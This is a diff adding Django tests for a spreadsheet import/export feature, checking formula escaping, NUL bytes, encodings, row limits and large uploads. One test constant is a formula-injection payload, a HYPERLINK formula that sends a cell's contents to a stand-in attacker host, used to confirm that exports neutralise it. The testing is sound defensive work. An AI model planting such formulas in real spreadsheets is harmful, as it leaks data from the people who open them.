@@ -1,6 +1,9 @@
 """The programme to and from a spreadsheet: itinerary/programme.py and its staff pages."""
 
+import csv
 import io
+import random
+import zipfile
 from datetime import UTC, datetime, timedelta
 
 import openpyxl
@@ -10,6 +13,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
+from itinerary import programme
 from itinerary.models import Meeting, TravelLeg
 from itinerary.programme import COLUMNS, export_file, plan_import, read_spreadsheet
 from tests.factories import (
@@ -400,3 +404,132 @@ def test_programme_confirm_shows_the_preview_again_when_an_item_was_saved_since(
     assert _confirm(client, mission, again).status_code == 302  # imported knowingly from the new preview
     meeting.refresh_from_db()
     assert (meeting.title, meeting.venue) == ("Renamed in the file", "Hall 1")
+
+
+# Hostile and large files (issue 20) --------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+
+
+def _export(client, mission, fmt: str) -> bytes:
+    client.force_login(mission["staff"])
+    return client.get(reverse("programme-export", args=[mission["delegation"].slug]), {"format": fmt}).content
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_programme_export_writes_formulas_as_text_and_reads_back_unchanged(client, mission, fmt):
+    MeetingFactory(
+        delegation=mission["delegation"],
+        city=mission["cities"]["Beijing"],
+        title=FORMULA,
+        venue="=Main hall (level 2)",
+        staff_notes="=TBC by Friday",
+        address="+86 10 5859 0000",
+        description="@channel: bring cards",
+    )
+    content = _export(client, mission, fmt)
+    if fmt == "csv":
+        body = content.decode("utf-8-sig")
+        assert '"\'=HYPERLINK(""http://evil.example/' in body  # OWASP's apostrophe, inside CSV quoting
+        assert ",'=Main hall (level 2)," in body and ",'+86 10 5859 0000," in body
+    else:
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula cell at all
+        row = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
+        assert row[COLUMNS.index("title")].value == FORMULA
+        assert row[COLUMNS.index("title")].data_type != "f"
+
+    preview = _upload(client, mission, content, name=f"programme.{fmt}")
+    plan = preview.context["plan"]
+    assert plan.errors == [] and plan.saving == 0 and len(plan.unchanged) == 1  # the same values
+
+
+def test_a_leading_tab_before_a_formula_is_stripped_on_import_and_exported_as_text(client, mission):
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["type", "title", "city", "starts", "ends"])
+    writer.writerow(["meeting", f"\t{FORMULA}", "Beijing", "2016-10-25 09:00", "2016-10-25 10:00"])
+    content = out.getvalue()
+    _confirm(client, mission, _upload(client, mission, content.encode(), name="programme.csv"))
+    assert Meeting.objects.get().title == FORMULA
+    quoted = FORMULA.replace('"', '""')
+    assert f'"\'{quoted}"'.encode() in _export(client, mission, "csv")
+
+
+def test_a_programme_of_too_many_rows_is_refused_at_the_limit_in_words(client, mission):
+    # Past the limit the file holds a byte no encoding we read can take: reading it whole (as
+    # before, then counting) would end in another message.
+    content = b"title\n" + b"a\n" * 6000 + b"\n" * 100_000 + b"\x81"
+    response = _upload(client, mission, content, name="programme.csv")
+    assert response.context["form"].errors["file"] == [
+        "The file has more than 5,000 rows; import at most 5,000 at a time."
+    ]
+
+
+def test_a_programme_upload_in_windows_1252_is_read(client, mission):
+    content = (
+        "type,title,city,starts,ends\r\nmeeting,Déjeuner – Café,Beijing,2016-10-25 12:00,2016-10-25 13:00\r\n"
+    )
+    preview = _upload(client, mission, content.encode("cp1252"), name="programme.csv")
+    [row] = preview.context["plan"].new
+    assert row.item.title == "Déjeuner – Café"
+
+
+def test_a_nul_byte_in_a_programme_upload_is_refused_before_the_database(client, mission):
+    # On PostgreSQL, saving "NUL\x00title" ended in a 500 at Import; now the preview refuses it.
+    content = (
+        b"type,title,city,starts,ends\r\nmeeting,NUL\x00title,Beijing,2016-10-25 09:00,2016-10-25 10:00\r\n"
+    )
+    response = _upload(client, mission, content, name="programme.csv")
+    assert response.status_code == 200
+    [message] = response.context["form"].errors["file"]
+    assert message.startswith("Line 2, column B: the cell holds a NUL character (byte 0)")
+    assert "confirm-import" not in response.content.decode()
+    assert not Meeting.objects.exists()
+
+
+def test_did_you_mean_looks_each_unknown_name_up_once_and_a_bounded_number_of_times(mission, monkeypatch):
+    # The probe's 1,000 rows naming 20 unknown counterparts each spent 53 s in difflib.
+    calls = []
+    real = programme.difflib.get_close_matches
+    monkeypatch.setattr(
+        programme.difflib,
+        "get_close_matches",
+        lambda *args, **kwargs: calls.append(args) or real(*args, **kwargs),
+    )
+    rows = [
+        _meeting(n, counterparts="; ".join(f"Unknown {n} {k}" for k in range(20)) + "; Alibab")
+        for n in range(100)
+    ]
+    plan = plan_import(delegation=mission["delegation"], headers=list(COLUMNS), rows=rows)
+    assert len(plan.errors) == 2100
+    assert plan.errors[20] == "line 2: no organisation called 'Alibab' — did you mean Alibaba?"
+    assert plan.errors[-1] == "line 101: no organisation called 'Alibab' — did you mean Alibaba?"  # kept
+    assert len(calls) <= 2 * programme.SUGGESTIONS
+
+
+def _long_text(rng: random.Random, length: int) -> str:
+    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(length))
+
+
+def test_a_large_valid_import_previews_and_imports(client, mission, settings):
+    # The probe's 4,000 rows of long descriptions made a 2.9 MB signed table in the preview's form,
+    # past Django's 2.5 MB request limit. The same, scaled down: 60 rows, a 40 KB limit.
+    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 40_000
+    rng = random.Random(20)
+    rows = [_meeting(n, description=_long_text(rng, 1500)) for n in range(60)]
+    preview = _upload(client, mission, _xlsx(rows))
+    assert preview.context["plan"].errors == []
+    assert len(preview.context["payload"]) < 1000  # names the kept upload, whatever the file's size
+    response = _confirm(client, mission, preview)
+    assert response.status_code == 302
+    assert Meeting.objects.filter(delegation=mission["delegation"]).count() == 60
+    assert Meeting.objects.get(title="Meeting 7").description == rows[7][COLUMNS.index("description")]
+
+
+def test_an_imported_preview_cannot_be_imported_again(client, mission):
+    preview = _upload(client, mission, _xlsx(_programme(3)))
+    assert _confirm(client, mission, preview).status_code == 302
+    response = _confirm(client, mission, preview)
+    assert response.status_code == 302
+    assert Meeting.objects.count() + TravelLeg.objects.count() == 3  # the kept file is gone
